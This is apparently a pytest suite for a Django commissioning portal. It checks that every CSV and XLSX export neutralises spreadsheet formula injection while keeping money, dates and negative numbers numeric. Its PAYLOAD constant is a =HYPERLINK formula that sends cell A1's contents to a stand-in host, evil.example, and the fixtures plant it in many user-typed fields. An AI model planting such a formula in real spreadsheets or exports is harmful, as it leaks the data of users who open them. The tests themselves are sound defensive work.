"""Every download is formula-safe: text a spreadsheet would run reaches the file as text.

The first tests are of ``portal.exports`` itself; the rest open every export of the portal
as a user who may download it, with text typed by someone else that begins with ``=``,
and check the file: in a CSV the cell carries OWASP's leading quote; in an XLSX (opened
with openpyxl) no cell is a formula and the cell holds the text as typed. Numbers, money
and negative numbers still go out as numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
import tablib
from django.urls import reverse
from openpyxl import load_workbook

from commissioning.funding.models import FundingStream, PracticePayment, StreamRate
from commissioning.funding.streams import load_funding_streams
from commissioning.models import Chapter, HighImpactAction, NationalCommitment
from commissioning.national_frame import load_national_frame
from estates.services import capacity_refresh
from metrics.models import Level, MetricValue
from portal import exports
from practices.models import Site
from returns.services import collection_open, return_save
from returns.upload import read_upload, write_table
from tests.commissioning.factories import ActionFactory, PlanFactory
from tests.commissioning.funding.factories import AllocationFactory, FundingStreamFactory
from tests.commissioning.funding.factories import SchemeFactory as FundingSchemeFactory
from tests.estates.factories import PremisesFactory
from tests.estates.factories import SchemeFactory as EstatesSchemeFactory
from tests.factories import ClusterMembershipFactory, ListSizeFactory, PracticeFactory, SiteFactory

PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your figures")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- the module --------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", PAYLOAD])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert exports.neutralise_cell(text) == "'" + text
    assert exports.restore_cell("'" + text) == text


@pytest.mark.parametrize("value", ["The Medical Centre", "-5", "-1.50", "+44", "1e-05", "", -5, Decimal("-1000.00"),
                                   -1.5, dt.date(2018, 4, 1), None, "it's = fine"])  # fmt: skip
def test_ordinary_text_and_numbers_are_left_as_they_are(value):
    assert exports.neutralise_cell(value) == value
    assert exports.restore_cell(value) == value


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_csv_writer_quotes_formulas_and_writes_numbers_plain():
    content = exports.write_csv(["Name", "Deductions", "Change"], [[PAYLOAD, Decimal("-1000.00"), -2]])
    assert _csv_rows(content) == [["Name", "Deductions", "Change"], ["'" + PAYLOAD, "-1000.00", "-2"]]


def test_the_xlsx_writer_stores_text_as_text_and_numbers_as_numbers():
    content = exports.write_xlsx(exports.Sheet("Sheet", ["Name", "Deductions", "Due"],
                                               [[PAYLOAD, Decimal("-1000.00"), dt.date(2019, 3, 31)]]))  # fmt: skip
    cells = {cell.coordinate: cell for cell in _xlsx_cells(content)}
    assert not [c for c in cells.values() if c.data_type == "f"]
    assert (cells["A2"].value, cells["A2"].data_type, cells["A2"].quotePrefix) == (PAYLOAD, "s", True)
    assert (cells["B2"].value, cells["B2"].data_type) == (-1000, "n")
    assert cells["C2"].is_date and cells["A1"].font.bold and cells["A1"].quotePrefix is False


def test_a_tablib_databook_is_written_sheet_by_sheet():
    first = tablib.Dataset(["=1+1", -3], headers=["Text", "Number"], title="First")
    second = tablib.Dataset(["@x"], headers=["Text"], title="Second: [two]")
    book = load_workbook(io.BytesIO(exports.write_dataset(tablib.Databook([first, second]), "xlsx")))
    assert book.sheetnames == ["First", "Second- -two-"]
    assert book["First"]["A2"].data_type == "s" and book["First"]["B2"].value == -3
    assert _csv_rows(exports.write_dataset(first, "csv")) == [["Text", "Number"], ["'=1+1", "-3"]]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_return_template_with_a_formula_uploads_back_as_the_text_typed(file_format):
    content = write_table(headers=["Question", "Answer"], rows=[["Notes", "-see the practice plan"]],
                          file_format=file_format)  # fmt: skip
    table = read_upload(content=content, filename=f"t.{file_format}")
    assert table.rows[0][1]["Answer"] == "-see the practice plan"


# --- every export of the portal --------------------------------------------------------


@pytest.fixture
def world(luton, luton_practice, luton_cluster, alice, bob):
    """Luton with text beginning '=' wherever someone types it: a practice manager's site
    name, a commissioner's action, scheme, stream and cluster names, a list size source."""
    load_national_frame(Chapter, NationalCommitment, HighImpactAction)
    load_funding_streams(FundingStream, StreamRate)
    luton_cluster.name = PAYLOAD
    luton_cluster.save()
    site = SiteFactory(practice=luton_practice, name=PAYLOAD, kind=Site.Kind.MAIN, postcode="LU1 3UA")
    PremisesFactory(site=site, gross_internal_area_m2=Decimal("760.0"), clinical_rooms=8)
    other = PracticeFactory(ods_code="E81009", name=PAYLOAD, ccg=luton)
    ClusterMembershipFactory(practice=other, cluster=luton_cluster)
    ListSizeFactory(practice=luton_practice, extract_date=dt.date(2018, 10, 1), patients=9600, source=PAYLOAD)
    plan = PlanFactory(ccg=luton, title="Luton plan", first_year=2017, last_year=2018)
    ActionFactory(plan=plan, title=PAYLOAD, lead="-Head of Primary Care")
    stream = FundingStreamFactory(name=PAYLOAD)
    AllocationFactory(stream=stream, ccg=luton, financial_year=2018, amount=Decimal("1000.00"))
    FundingSchemeFactory(ccg=luton, stream=stream, title=PAYLOAD, practices=[luton_practice], amounts={2018: "10"})
    EstatesSchemeFactory(ccg=luton, name=PAYLOAD)
    PracticePayment.objects.create(
        practice=other, ccg=luton, financial_year=2018, registered_patients=Decimal("1000"),
        total_payments=Decimal("100000.00"), deductions=Decimal("-1000.00"), net_payments=Decimal("99000.00"),
    )  # fmt: skip
    MetricValue.objects.create(
        metric="gp_fte_per_1000", level=Level.PRACTICE, org_id=luton_practice.pk, practice=luton_practice,
        ccg_id=luton.pk, frequency="quarterly", period=dt.date(2018, 10, 1), value=-1.5,
    )  # fmt: skip
    capacity_refresh(ccg=luton)
    estates_return = collection_open(
        ccg=luton, return_type="estates", period_start=dt.date(2018, 4, 1), due_date=dt.date(2019, 4, 30), user=alice
    ).returns.get(practice=luton_practice)
    return_save(ret=estates_return, user=bob, values={"sites": {}})  # a draft offers the register's sites
    return {"ccg": luton, "plan": plan, "practice": luton_practice, "cluster": luton_cluster, "return": estates_return}


def _url(name, *args, query=""):
    """The export's address in the world: args name the world's objects ('ccg', 'plan') or are literal."""
    return lambda world: reverse(name, args=[world[a].pk if a in world else a for a in args]) + query


def _both(label, user, name, *args, query=None):
    """The CSV and XLSX of one export: by the URL's file format, or by ``?export=``."""
    if query:
        return {f"{label} {f}": (user, _url(name, *args, query=f"?{query}={f}")) for f in ("csv", "xlsx")}
    return {f"{label} {f}": (user, _url(name, *args, f)) for f in ("csv", "xlsx")}


EXPORTS = {
    **_both("plan actions", "alice", "commissioning:plan_export", "plan"),
    "api practices csv": ("alice", lambda w: "/api/practices/?format=csv"),
    "api clusters csv": ("alice", lambda w: "/api/clusters/?format=csv"),
    "api plan actions csv": ("alice", lambda w: "/api/plan-actions/?format=csv"),
    **_both("premises register", "alice", "estates:premises_list", query="export"),
    **_both("estates schemes", "alice", "estates:scheme_list", query="export"),
    **_both("digital readiness", "alice", "estates:digital_readiness", "ccg", query="export"),
    **_both("capacity", "alice", "estates:ccg_capacity_export", "ccg"),
    **_both("funding summary", "alice", "commissioning:funding_summary_export", "ccg"),
    **_both("funding schemes", "alice", "commissioning:scheme_export"),
    **_both("practice payments", "alice", "commissioning:ccg_payments_export", "ccg"),
    **_both("payments across the years", "alice", "commissioning:ccg_payments_years_export", "ccg", "practices"),
    **_both("cluster payments across the years", "alice", "commissioning:ccg_payments_years_export", "ccg", "clusters"),
    "ccg dashboard funding csv": ("alice", _url("dashboards:ccg_csv", "ccg", "funding", query="?period=2018-10-01")),
    "cluster dashboard csv": ("alice", _url("dashboards:cluster_csv", "cluster", query="?period=2018-10-01")),
    "practice profile csv": ("bob", _url("dashboards:practice_profile_csv", "practice", "list_size")),
    **_both("estates return template", "bob", "returns:return_template", "return"),
}


@pytest.mark.parametrize("name", EXPORTS)
def test_text_beginning_with_an_equals_sign_reaches_every_export_as_text(client, world, alice, bob, name):
    user, url = EXPORTS[name]
    client.force_login({"alice": alice, "bob": bob}[user])

    response = client.get(url(world))

    assert response.status_code == 200, response.content[:300]
    if response["Content-Type"] == XLSX:
        cells = _xlsx_cells(response.content)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert [(c.data_type, c.quotePrefix) for c in cells if c.value == PAYLOAD][:1] == [("s", True)]
    else:
        assert response["Content-Type"].startswith("text/csv")
        values = [v for row in _csv_rows(response.content) for v in row]
        assert "'" + PAYLOAD in values
        assert [v for v in values if exports.is_formula_like(v)] == []


def test_negative_money_stays_a_number_in_the_payments_csv_and_xlsx(client, world, alice):
    client.force_login(alice)
    url = reverse("commissioning:ccg_payments_export", args=[world["ccg"].pk, "csv"])
    rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    assert [r["Deductions (£)"] for r in rows] == ["-1000.00"]
    cells = _xlsx_cells(client.get(url.replace(".csv", ".xlsx")).content)
    assert [(c.value, c.data_type) for c in cells if c.value == -1000] == [(-1000, "n")]


def test_a_negative_metric_value_stays_a_number_in_the_api_csv(client, world, alice):
    client.force_login(alice)
    rows = list(csv.DictReader(io.StringIO(client.get("/api/metric-values/?format=csv").content.decode())))
    assert [float(r["value"]) for r in rows] == [-1.5]
    assert not rows[0]["value"].startswith("'")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_tracker_with_formula_text_imports_back_as_typed(world, alice, file_format):
    from commissioning.tracker import tracker_export, tracker_import, tracker_read

    plan = world["plan"]
    content = tracker_export(plan=plan, file_format=file_format)
    result = tracker_import(plan=plan, dataset=tracker_read(content=content, filename=f"t.{file_format}"), user=alice)
    assert result.ok, result.errors
    action = plan.actions.get()
    assert (action.title, action.lead) == (PAYLOAD, "-Head of Primary Care")


NUMBER_AS_TEXT = re.compile(r"-?£?\d{1,3}(,\d{3})+(\.\d+)?|-?£\d+(\.\d+)?|-?\d+(\.\d+)?")
DATE_AS_TEXT = re.compile(r"\d{4}-\d{2}-\d{2}|\d{1,2} [A-Z][a-z]{2,8} \d{4}|\d{1,2}/\d{1,2}/\d{2,4}")
WORDED_IN_CSV = re.compile(r"-?£[\d,.]+|-?\d{1,3}(,\d{3})+(\.\d+)?|\d{1,2} [A-Z][a-z]{2,8} \d{4}")


@pytest.mark.parametrize("name", [n for n in EXPORTS if n.endswith("xlsx")])
def test_every_xlsx_holds_numbers_money_and_dates_as_themselves(client, world, alice, bob, name):
    user, url = EXPORTS[name]
    client.force_login({"alice": alice, "bob": bob}[user])
    book = load_workbook(io.BytesIO(client.get(url(world)).content))

    for sheet in book.worksheets:
        header, *body = list(sheet.iter_rows())
        assert sheet.freeze_panes == "A2" and all(c.font.bold for c in header)
        for row in body:
            for heading, cell in zip([h.value for h in header], row, strict=False):
                if cell.value is None:
                    continue
                if "(£)" in heading:
                    assert (cell.data_type, cell.number_format) == ("n", '"£"#,##0.00;-"£"#,##0.00'), heading
                if cell.is_date:
                    assert "yyyy" in cell.number_format, heading
                if isinstance(cell.value, str):
                    assert not NUMBER_AS_TEXT.fullmatch(cell.value), (heading, cell.value)
                    assert not DATE_AS_TEXT.fullmatch(cell.value), (heading, cell.value)


@pytest.mark.parametrize("name", [n for n in EXPORTS if not n.endswith("xlsx")])
def test_every_csv_has_iso_dates_and_plain_numbers(client, world, alice, bob, name):
    user, url = EXPORTS[name]
    client.force_login({"alice": alice, "bob": bob}[user])

    values = [v for row in _csv_rows(client.get(url(world)).content)[1:] for v in row]

    assert [v for v in values if WORDED_IN_CSV.fullmatch(v)] == []
